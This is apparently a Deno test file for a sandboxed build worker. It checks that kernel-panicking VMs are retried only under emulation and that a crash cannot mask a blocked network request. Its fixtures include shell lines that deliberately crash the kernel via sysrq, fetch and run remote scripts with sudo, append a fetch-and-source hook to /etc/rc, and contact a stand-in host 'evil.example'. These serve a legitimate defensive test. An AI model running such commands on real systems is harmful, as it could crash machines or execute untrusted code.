/**
 * A worker whose kernel dies while it is prepared or boots. Emulated, it gets
 * one more try, and no way to hide anything with it. What the worker does, a
 * server tells it in turn; so each try is known by what it fetched.
 *
 * @module
 */

import assert from "node:assert/strict";
import type { BuildEvent } from "../../src/pipeline/events.ts";
import type { Serve } from "../harness/canary.ts";
import { FakeInternet } from "../harness/fake_internet.ts";
import {
  makePlaybookImage,
  standInPlaybook,
} from "../harness/playbook_image.ts";
import { pageOf } from "../harness/services.ts";
import { Project } from "../project.ts";
import {
  assertDenied,
  assertSuccess,
  build,
  explain,
  phaseOutcome,
  type Result,
} from "./attack.ts";

const die = "echo c >/proc/sysrq-trigger\nsleep 600\n";

const allowed = [{ host: "allowed.example", protocols: ["http"] }];

/** @param mark keeps the prepared disk apart from others */
function spec(mark: string): string {
  return JSON.stringify({
    "worker-image": "playbook.img",
    source: "src",
    workspace: "ws",
    resources: { memory: "256 MiB", disk: "256 MiB", "wall-time": "20 min" },
    network: { prepare: allowed, build: allowed },
    ansible: standInPlaybook(`
# ${mark}
wget -q -O task http://allowed.example/
sudo sh task`),
    build: "echo built >result\n",
  });
}

/** Has the next worker do as it is told before its runner starts. */
const obeyAtBoot = `
cat >>/etc/rc <<'END'
/usr/lib/contractor/network /usr/lib/contractor/dhcp &
until wget -q -O /run/task http://allowed.example/; do sleep 1; done
. /run/task
END
`;

/** Answers each connection with the next page. */
function inTurn(pages: readonly string[]): Serve {
  const left = [...pages];
  return (connection) => pageOf(left.shift() ?? "")(connection);
}

function assertDied(result: Result): void {
  const said = explain(result);
  assert.equal(result.code, 3, said);
  assert.equal(result.report.error?.code, "manager-worker-died", said);
  assert.match(result.report.error?.detail ?? "", /Kernel panic/);
  assert.equal(result.report.workspace.exported, false, said);
}

function notesOf({ events }: Result): string[] {
  return events
    .filter((event): event is BuildEvent & { type: "note" } =>
      event.type === "note"
    )
    .map(({ message }) => message);
}

Deno.test("a worker whose kernel dies is tried again where it is emulated", async (t) => {
  await using internet = new FakeInternet();
  await using project = await Project.create();
  await makePlaybookImage(project.path("playbook.img"));
  const run = async (mark: string, ...pages: string[]) => {
    const server = internet.serve("192.0.2.10:80", inTurn(pages));
    const result = await build(project, internet, spec(mark));
    return { result, fetched: server.connections.length };
  };
  const mark = crypto.randomUUID();
  let isEmulated = true;

  await t.step("a death in each phase is told, and no more", async () => {
    const { result, fetched } = await run(
      mark,
      ...[die, obeyAtBoot],
      ...[die, "true"],
    );
    const { retries, manager, usage } = result.report;
    isEmulated = manager?.accelerator === "tcg";
    if (!isEmulated) {
      assertDied(result);
      assert.deepEqual(retries, []);
      assert.equal(fetched, 1);
      return;
    }
    assertSuccess(result);
    assert.equal(fetched, 4);
    assert.deepEqual(retries.map(({ phase }) => phase), ["prepare", "boot"]);
    for (const { reason, detail } of retries) {
      assert.match(reason, /The worker ended/);
      assert.match(detail ?? "", /Kernel panic/);
      assert.ok(notesOf(result).some((note) => note.includes(reason)));
    }
    assert.equal(phaseOutcome(result, "prepare"), "done");
    assert.equal(phaseOutcome(result, "boot"), "done");
    assert.ok(usage.prepare !== null && usage.build !== null);
    assert.equal(await project.read("ws/src/result"), "built\n");
  });

  // With KVM nothing was prepared, and a death is final: that was all.
  if (!isEmulated) return;

  await t.step("one that dies at each boot is given up", async () => {
    const { result, fetched } = await run(mark, die, die);
    assertDied(result);
    assert.equal(fetched, 2);
    const { retries } = result.report;
    assert.deepEqual(retries.map(({ phase }) => phase), ["boot"]);
    assert.equal(phaseOutcome(result, "prepare"), "reused");
    assert.equal(phaseOutcome(result, "boot"), "failed");
  });

  await t.step("one that dies of its playbook is given up", async () => {
    const { result, fetched } = await run(crypto.randomUUID(), die, die);
    assertDied(result);
    assert.equal(fetched, 2);
    const { retries } = result.report;
    assert.deepEqual(retries.map(({ phase }) => phase), ["prepare"]);
    assert.equal(phaseOutcome(result, "prepare"), "failed");
  });

  await t.step("a death hides no attempt", async () => {
    const attempt = `wget -q -O - http://evil.example/\n${die}`;
    const { result, fetched } = await run(crypto.randomUUID(), attempt);
    assertDenied(result, {
      refusal: "name-not-allowed",
      host: "evil.example",
      phase: "prepare",
    });
    assert.equal(fetched, 1);
    assert.deepEqual(result.report.retries, []);
    assert.equal(internet.trap.connections.length, 0);
  });
});
